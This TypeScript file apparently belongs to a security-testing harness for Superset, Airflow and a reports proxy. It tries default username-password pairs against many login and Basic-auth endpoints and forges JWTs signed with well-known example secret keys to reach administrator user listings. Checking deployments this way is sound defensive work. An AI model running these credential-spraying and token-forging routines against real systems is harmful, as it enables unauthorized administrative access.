import { createHash, createHmac, randomUUID } from "node:crypto";
import type { Target } from "../targets.ts";
import type { Answer, Sent, Visitor } from "../visitor.ts";
import { ALL, type Attack, FAB, type Stage } from "./attack.ts";

/** Names and passwords that the tools' own guides and images begin with. */
export const DEFAULTS: readonly (readonly [name: string, password: string])[] = [
  ["admin", "admin"],
  ["airflow", "airflow"],
  ["superset", "superset"],
  ["admin", "general"],
  ["admin", "password"],
];

type Door = (visitor: Visitor, target: Target, name: string, password: string) => Promise<Answer>;

const post =
  (path: string, body: (name: string, password: string) => Sent): Door =>
  (visitor, { host }, name, password) =>
    visitor.send(`https://${host}${path}`, body(name, password));

const inJson = (more: object) => (username: string, password: string) => ({ json: { username, password, ...more } });
const inForm = (username: string, password: string) => ({ form: { username, password } });
const basic = (name: string, password: string): Sent => ({
  headers: { authorization: `Basic ${Buffer.from(`${name}:${password}`).toString("base64")}` },
});

/** Every place that takes, or once took, a name and a password. */
const DOORS: Record<Target["id"], Readonly<Record<string, Door>>> = {
  superset: {
    "POST /api/v1/security/login (db)": post("/api/v1/security/login", inJson({ provider: "db", refresh: true })),
    "POST /api/v1/security/login (ldap)": post("/api/v1/security/login", inJson({ provider: "ldap", refresh: true })),
    "POST /login/": post("/login/", inForm),
    "Basic at /api/v1/me/": post("/api/v1/me/", basic),
  },
  airflow: {
    "POST /auth/token": post("/auth/token", inJson({})),
    "POST /auth/token/cli": post("/auth/token/cli", inJson({})),
    "POST /auth/login/": post("/auth/login/", inForm),
    "POST /auth/api/v1/security/login": post("/auth/api/v1/security/login", inJson({ provider: "db", refresh: true })),
    "Basic at /api/v2/variables": post("/api/v2/variables", basic),
  },
  reports: {
    "POST /oauth2/sign_in": post("/oauth2/sign_in", inForm),
    "Basic at /api/me": post("/api/me", basic),
  },
};

/** Whether an answer opened the tool: a token, or the thing itself. A form that lets in sets a session instead. */
async function opened({ target }: Stage, visitor: Visitor, door: string, { status }: Answer): Promise<boolean> {
  if (door.includes("/login/") || door.includes("sign_in")) return (await target.who(visitor)) !== undefined;
  return status === 200 || status === 201;
}

/** Texts that guides and example files use for keys. */
export const KNOWN_KEYS = [
  "thisISaSECRET_1234",
  "CHANGE_ME_TO_A_COMPLEX_RANDOM_SECRET",
  "YOUR_OWN_RANDOM_GENERATED_SECRET_KEY",
  "TEST_NON_DEV_SECRET",
  "airflow_jwt_secret",
  "temporary_key",
] as const;

/** A token as the tool itself makes them for its first accounts. */
function ownToken({ id, host }: Target, account: number, key: string): string {
  const now = Math.floor(Date.now() / 1000);
  const times = { iat: now, nbf: now, exp: now + 600, jti: randomUUID(), sub: String(account) };
  const claims =
    id === "superset"
      ? { ...times, fresh: true, type: "access", csrf: randomUUID() }
      : { ...times, iss: `https://${host}`, aud: `https://${host}` };
  const algorithm = id === "superset" ? "HS256" : "HS512";
  // The tools' libraries find the key themselves; Airflow wants some key id.
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const text = `${part({ alg: algorithm, typ: "JWT", kid: "not-used" })}.${part(claims)}`;
  return `${text}.${createHmac(algorithm.replace("HS", "sha"), key).update(text).digest("base64url")}`;
}

/** What the account of the highest role may ask. */
const FOR_ADMINS: Record<"superset" | "airflow", string> = {
  superset: "/api/v1/security/users/",
  airflow: "/auth/fab/v1/users",
};

/** Accounts of a young database; one of them is an administrator's. */
const FIRST_ACCOUNTS = 8;

export const PASSWORDS: readonly Attack[] = [
  {
    name: "well-known names and passwords",
    targets: ALL,
    run: async (stage) => {
      const tried: string[] = [];
      const { account } = stage;
      const pairs = account === undefined ? DEFAULTS : [[account.name, account.password] as const, ...DEFAULTS];
      for (const [door, knock] of Object.entries(DOORS[stage.target.id])) {
        for (const [name, password] of pairs) {
          const visitor = stage.visitor();
          const answer = await knock(visitor, stage.target, name, password);
          if (await opened(stage, visitor, door, answer)) return { got: true, how: `${door} takes ${name}` };
          tried.push(`${door} ${answer.status}`);
        }
      }
      return { got: false, how: [...new Set(tried)].join(", ") };
    },
  },
  {
    name: "token made with a well-known key",
    targets: FAB,
    run: async ({ target, visitor }) => {
      if (target.id === "reports") throw new Error("The proxy makes no tokens.");
      const url = `https://${target.host}${FOR_ADMINS[target.id]}`;
      const mallory = visitor();
      for (const key of KNOWN_KEYS) {
        for (let account = 1; account <= FIRST_ACCOUNTS; account++) {
          const headers = { authorization: `Bearer ${ownToken(target, account, key)}` };
          const { status } = await mallory.send(url, { headers });
          if (status === 200) return { got: true, how: `account ${account} with ${key}` };
        }
      }
      return { got: false, how: "no key fits" };
    },
  },
];

/** The proxy's own file of passwords with the first pair, as somebody would add it. */
export const PASSWORD_FILE = DEFAULTS.slice(0, 1)
  .map(([name, password]) => `${name}:{SHA}${createHash("sha1").update(password).digest("base64")}\n`)
  .join("");
